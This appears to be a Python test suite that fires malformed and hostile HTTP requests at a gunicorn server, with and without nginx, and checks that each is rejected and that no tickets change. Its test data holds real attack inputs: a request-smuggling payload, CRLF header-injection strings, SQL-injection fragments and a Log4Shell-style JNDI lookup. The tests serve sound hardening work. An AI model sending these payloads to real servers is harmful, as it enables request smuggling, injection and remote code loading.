"""Malformed HTTP, sent to real gunicorn, alone and behind real nginx.

Each request is refused or the connection closed; afterwards the server still serves, and has as
many tickets as before.
"""

import contextlib
import socket

import pytest

from tests.support.nginx_server import OVER_TLS, built_page
from tests.support.serving import gunicorn

# One after the other: they share servers.
pytestmark = [pytest.mark.own_database, pytest.mark.xdist_group("servers")]

TICKET = b'{"title": "a", "description": "b", "category": "billing", "priority": "high"}'
SMUGGLED = b"POST /api/tickets/ HTTP/1.1\r\nHost: help.example.com\r\nContent-Length: 0\r\n\r\n"


@pytest.fixture(scope="module")
def backend(tmp_path_factory):
    built_page()
    folder = tmp_path_factory.mktemp("gunicorn")
    with gunicorn(folder, NUM_PROXIES="1", OPEN_ACCESS="True") as server:
        server.headers = OVER_TLS
        for _ in range(2):
            made = exchange(server, create(body=TICKET.replace(b'"a"', b'"X-Made-Up: yes"')))
            assert status_of(made) == 201
        yield server


def request(line, headers=(), body=b"", length=True):
    """Return a request as bytes, well-formed or not."""
    lines = [
        line,
        b"Host: help.example.com",
        b"X-Forwarded-Proto: https",
        b"Connection: close",
        *([b"Content-Type: application/json"] if body else []),
        *([b"Content-Length: %d" % len(body)] if body and length else []),
        *headers,
    ]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def exchange(server, data, is_cut_off=False):
    """Send bytes and return the response until the server closes the connection."""
    answer = b""
    with socket.create_connection(("127.0.0.1", server.port), timeout=20) as connection:
        # A server that refuses a body need not read it to its end.
        with contextlib.suppress(ConnectionError):
            connection.sendall(data)
            if is_cut_off:
                connection.shutdown(socket.SHUT_WR)
        with contextlib.suppress(ConnectionError):
            while part := connection.recv(65_536):
                answer += part
    return answer


def status_of(answer):
    return int(answer.split(b" ", 2)[1]) if answer else None


def create(*headers, body=TICKET, length=True):
    return request(b"POST /api/tickets/ HTTP/1.1", headers, body, length)


def listing(*headers):
    return request(b"GET /api/tickets/ HTTP/1.1", headers)


# None stands for a connection that is closed without a word.
REFUSED: dict[str, tuple[bytes, set[int | None]]] = {
    "a header with a NUL": (listing(b"X-Made-Up: a\0b"), {400}),
    "a key with a NUL": (create(b"Idempotency-Key: a\0b"), {400}),
    "a header over two lines": (create(b"Idempotency-Key: a\r\n b"), {400}),
    "a header without a name": (create(b": a"), {400}),
    "a name with a space": (create(b"X Made Up: a"), {400}),
    "a space before the colon": (create(b"Content-Length : 5"), {400}),
    "a header that is no line of one": (create(b"made up"), {400}),
    "a long header": (listing(b"X-Made-Up: " + b"a" * 70_000), {400, 431}),
    "four headers of 20 kB": (
        listing(*[b"X-%d: %s" % (number, b"a" * 20_000) for number in range(4)]),
        {400, 431},
    ),
    "200 headers": (listing(*[b"X-%d: a" % number for number in range(200)]), {400, 431}),
    "a long address": (request(b"GET /api/" + b"a" * 40_000 + b" HTTP/1.1"), {400, 414}),
    "an address with a NUL": (request(b"GET /api/\0 HTTP/1.1"), {400}),
    "an address with a space": (request(b"GET /api/a b HTTP/1.1"), {400}),
    "no version": (request(b"GET /api/tickets/"), {400, None}),
    "a version that is none": (request(b"GET /api/tickets/ HTTP/9.9"), {400, 505}),
    "a method that is none": (request(b"G@T /api/tickets/ HTTP/1.1"), {400, 405}),
    "two lengths": (
        create(b"Content-Length: 5", b"Content-Length: 6", length=False),
        {400},
    ),
    "a negative length": (create(b"Content-Length: -1", length=False), {400}),
    "a length with a plus": (create(b"Content-Length: +76", length=False), {400}),
    "a length that is none": (create(b"Content-Length: a", length=False), {400}),
    "a length beyond 64 bits": (
        create(b"Content-Length: 99999999999999999999999", length=False),
        {400, 413},
    ),
    "a length and chunks": (
        create(b"Transfer-Encoding: chunked", body=b"0\r\n\r\n" + SMUGGLED),
        {400, 411},
    ),
    "chunks of a kind that is none": (
        create(b"Transfer-Encoding: cow", length=False),
        {400, 411, 501},
    ),
    "chunks that are none": (
        create(b"Transfer-Encoding: chunked", body=b"zz\r\n\r\n", length=False),
        {400, 411},
    ),
    "chunks, twice": (
        create(b"Transfer-Encoding: chunked", b"Transfer-Encoding: chunked", length=False),
        {400, 411},
    ),
    "10 MB": (create(body=b" " * 10_000_000), {413}),
    # gunicorn falls back to its own address, and Django redirects to https there.
    "no host": (b"GET /api/tickets/ HTTP/1.1\r\nConnection: close\r\n\r\n", {301, 400}),
    "a host that is none": (
        b"GET /api/tickets/ HTTP/1.1\r\nHost: a b/c@d\r\nConnection: close\r\n\r\n",
        {400},
    ),
    "TLS": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 500, {400, None}),
    "noise": (bytes(range(256)) * 4 + b"\r\n\r\n", {400, None}),
    "HTTP/2": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0" * 9, {400, 405, 505, None}),
}

# Servers wait for the rest of these; the connection is half-closed.
CUT_OFF = ("TLS",)


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_no_request_is_refused_and_changes_nothing(server, name):
    before = server.ask("/api/tickets/").header("X-Total-Count")
    data, expected = REFUSED[name]
    answer = exchange(server, data, name in CUT_OFF)
    assert status_of(answer) in expected, answer[:300]
    # Not two answers to what looks like two requests.
    assert answer.count(b"HTTP/1.1 ") <= 1
    assert b"Traceback" not in answer
    assert server.ask("/healthz").status == 200
    assert server.ask("/api/tickets/").header("X-Total-Count") == before


def test_half_a_body_makes_no_ticket(server):
    before = server.ask("/api/tickets/").header("X-Total-Count")
    answer = exchange(server, create(b"Content-Length: 500", length=False), is_cut_off=True)
    assert status_of(answer) in (400, None)
    assert server.ask("/api/tickets/").header("X-Total-Count") == before


BREAKS = (b"%0d%0aX-Made-Up:%20yes", b"%0aX-Made-Up:%20yes", b"%E5%98%8A%E5%98%8DX-Made-Up:%20yes")


@pytest.mark.parametrize("text", BREAKS)
@pytest.mark.parametrize(
    "address",
    [
        b"/api/tickets/?page_size=1&search=%s",
        b"/api/tickets/?page_size=1&utm=%s",
        b"/api/tickets%s",
        b"/api/tickets?a=%s",
        b"/%s",
        b"/assets/%s",
        b"/admin/login/?next=/admin/%s",
        b"/api/requests/%s/",
    ],
)
def test_a_line_break_in_an_address_makes_no_header(server, address, text):
    answer = exchange(server, request(b"GET " + address % text + b" HTTP/1.1"))
    head = answer.partition(b"\r\n\r\n")[0].lower()
    assert status_of(answer) < 500
    assert b"\nx-made-up" not in head


@pytest.mark.parametrize(
    "header",
    [
        b"X-Forwarded-For: '; DROP TABLE tickets_ticket;--",
        b"X-Forwarded-For: " + b"1.2.3.4, " * 200 + b"\xff",
        b"X-Forwarded-Host: evil.example.com",
        b"X-Request-ID: " + b"a" * 1_000,
        b"X-Request-ID: \xff{%0d%0a}",
        b"X-HTTP-Method-Override: DELETE",
        b"Cookie: sessionid=\xff; csrftoken=" + b"a" * 3_000,
        b"Cookie: __Host-sessionid=' OR 1=1; ; =; a",
        b"Accept: ,;q=a,*/*;q=\xff",
        b"Accept-Language: " + b"en;q=0.1," * 300,
        b"Accept-Encoding: gzip;q=a, \xff",
        b'If-None-Match: W/, "\xff',
        b"If-Modified-Since: yesterday",
        b"Range: bytes=9999999999999999999-0,,-",
        b"Referer: javascript:alert(1)",
        b"User-Agent: ${jndi:ldap://example.com/a} \xff",
        b"Expect: 100-continue, nothing",
    ],
)
def test_an_odd_header_is_no_error_of_ours(server, header):
    answer = exchange(server, listing(header))
    assert status_of(answer) in (200, 400, 406, 417), answer[:300]
    assert b"evil.example.com" not in answer
    assert server.ask("/readyz").status == 200
